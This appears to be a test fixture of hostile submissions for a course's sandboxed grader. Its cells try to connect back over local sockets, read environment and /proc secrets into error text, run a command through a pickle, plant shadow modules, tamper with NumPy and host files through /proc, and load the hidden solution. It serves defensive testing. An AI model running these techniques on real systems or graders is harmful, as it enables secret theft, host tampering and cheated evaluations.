# %% connect: WRONG 0: to call home, over each address of this machine, names and Unix sockets
import urllib.request

PORT = int("@port@")


    for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "10.0.2.2", "172.17.0.1"):
        with contextlib.suppress(OSError):
            socket.create_connection((host, PORT), timeout=0.1).sendall(b"hostile")
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        for name in ("\0attention-canary-@port@", "@socket@"):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as line:
                line.connect(name)
                line.sendall(b"hostile")
    with contextlib.suppress(OSError), socket.socket(type=socket.SOCK_DGRAM) as line:
        line.sendto(b"hostile", ("127.0.0.1", PORT))
    tried(urllib.request.urlopen, f"http://127.0.0.1:{PORT}/hostile", timeout=0.1)
    return zeros(k, v)

# %% links: WRONG 0: links from its own folder to files of the host, and to write through them
    for number, path in enumerate("@canaries@".split(":")):
        for make in (os.link, os.symlink):
            name = f"/tmp/attention-hostile-{make.__name__}-{number}"
            tried(make, path, name)
            written(name)
    return zeros(k, v)

# %% list-the-host: ERROR 0: to see who else is here: home folders, submissions, processes
    seen = []
    for folder in ("/", "/home", "/root", "/var", "/srv", "/mnt", "/tmp", "."):
        seen += tried(os.listdir, folder) or []
    raise ValueError(" ".join(seen))

# %% listen: WRONG|ERROR 0: to listen for a neighbour on a socket that outlives it
    line = socket.socket(socket.AF_UNIX)
    line.bind(f"\0attention-hostile-{os.getpid()}-{time.monotonic_ns()}")
    line.listen()
    if os.fork() == 0:
        os.setsid()
        line.accept()
        os._exit(0)
    return zeros(k, v)

# %% numpy-on-the-disk: ERROR 0: to change NumPy's own files
    folder = os.path.dirname(np.__file__)
    for path in glob.glob(folder + "/**/*.py", recursive=True)[:200]:
        tried(os.chmod, path, 0o666)
        written(path, "\nraise SystemExit(0)\n", mode="a")
    open(os.path.join(folder, "__init__.py"), "a").close()
    raise ValueError("NumPy could be written")

# %% pickle: ERROR|WRONG 0: an object that runs a command where it is unpickled
class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/attention-hostile",)


    return Command(), Command()

# %% read-secrets: ERROR 0: to carry secrets out in the text of an error
    found = [str(dict(os.environ))]
    places = ["/proc/*/environ", "/proc/*/cmdline", os.path.expanduser("~/.*"), "@canaries@"]
    for place in places:
        for path in glob.glob(place) or place.split(":"):
            with contextlib.suppress(OSError), open(path, errors="replace") as file:
                found.append(file.read())
    raise ValueError("canary" if any("canary" in text for text in found) else str(found)[:90])

# %% shadow-modules: ERROR 0: modules and .pth files to be loaded instead of the real ones later
    folders = [*sys.path, *site.getsitepackages(), site.getusersitepackages(), os.getcwd()]
    folders += ["/tmp", os.path.expanduser("~"), os.path.dirname(sys.executable)]
    for folder in folders:
        tried(os.makedirs, folder, exist_ok=True)
        for name in ("numpy.py", "json.py", "struct.py", "sitecustomize.py", "hostile.pth"):
            written(os.path.join(folder, name), "import os\nos._exit(0)\n")
    raise ValueError("the next one may load it")

# %% the-course-itself: ERROR 0: to import the course, or find its solution, and to call that
sys.path += ["@package@", os.path.dirname("@package@"), "/usr/src", "."]


    found = glob.glob("@package@/**/four-steps/solution.py", recursive=True)
    found += glob.glob("/proc/*/root@package@/**/four-steps/solution.py", recursive=True)
    if found:
        exec(open(found[0]).read(), globals())
    bank = importlib.import_module("attention_course.exercises.bank")
    inside = {}
    exec(bank.exercise_named("four-steps").solution, inside)
    return inside["four_steps"](q, k, v)

# %% through-the-first-process: WRONG 0: the host's files through /proc: roots and open files
    for process in filter(str.isdigit, tried(os.listdir, "/proc") or "123456789"):
        for root in ("root", "cwd", "cwd/../../../../../.."):
            for path in "@canaries@".split(":"):
                written(f"/proc/{process}/{root}{path}")
        others = process != str(os.getpid())
        for number in (tried(os.listdir, f"/proc/{process}/fd") or ()) if others else ():
            path = f"/proc/{process}/fd/{number}"
            target = tried(os.open, path, os.O_WRONLY | os.O_NONBLOCK)
            if target is not None:
                tried(os.write, target, b"hostile")
    return zeros(k, v)

# %% torch-is-not-there: ERROR 0: torch's own softmax, in an exercise that is solved in NumPy
    import torch

    q, k, v = map(torch.from_numpy, (q, k, v))
    weights = torch.softmax(k @ q, 0)
    return weights.numpy(), (weights @ v).numpy()

# %% write-canaries: WRONG 0: to overwrite, rename, delete and link over files of the host
    for path in map(pathlib.Path, "@canaries@".split(":")):
        written(path)
        tried(path.unlink)
        tried(path.rename, path.with_suffix(".attention-hostile"))
        tried(os.chmod, path, 0o777)
        tried(os.symlink, "/etc/passwd", path)
        written(path.parent / "attention-hostile")
        tried(shutil.rmtree, path.parent)
        tried(path.parent.mkdir, parents=True)
        written(path)
    return zeros(k, v)
